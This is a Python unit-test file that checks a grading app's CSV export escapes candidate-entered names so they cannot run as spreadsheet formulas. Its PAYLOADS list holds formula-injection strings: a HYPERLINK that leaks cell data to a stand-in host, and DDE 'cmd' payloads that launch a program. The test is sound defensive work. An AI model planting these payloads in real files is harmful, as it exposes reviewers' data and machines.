"""The exports a reviewer downloads and opens (issue 23 item 7): summary.csv carries text the
candidate wrote (the name in their submission.yaml); a spreadsheet would run a cell that
starts like a formula (`=HYPERLINK(...)`, `+`, `-`, `@`), so such a cell is written with a
leading apostrophe, while numbers (negative ones too) stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from tests.unit.web_pages_support import (
    _unique_zip,
    accepted_upload,
    grade_next,
    invite,
    logged_in,
    opening,
    web,
    wordfreq_report,
)

__all__ = ["web"]
PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open me")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]


def test_summary_csv_cells_never_start_a_formula(web: None, tmp_path: Path) -> None:
    o = opening()
    for n, payload in enumerate(PAYLOADS):
        made, _ = invite(o, f"Eve Example{n}")
        upload = accepted_upload(made, _unique_zip(f"Eve Example{n}"))
        grade_next(tmp_path, wordfreq_report(f"eve{n}-{upload.sha256[:12]}", payload,
                                             sha=upload.sha256[0]))
    answer = logged_in().get(f"/openings/{o.pk}/summary.csv")
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.content.decode())))
    names = sorted(row["candidate"] for row in rows)
    assert names == sorted("'" + p for p in PAYLOADS)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        float(row["percent"])                       # numbers are left as numbers


def test_a_negative_number_is_left_alone() -> None:
    from grader.batch import csv_safe

    assert csv_safe("-1.5") == "-1.5" and csv_safe("42") == "42"
    assert csv_safe("-1+1") == "'-1+1" and csv_safe("Grace Hopper") == "Grace Hopper"
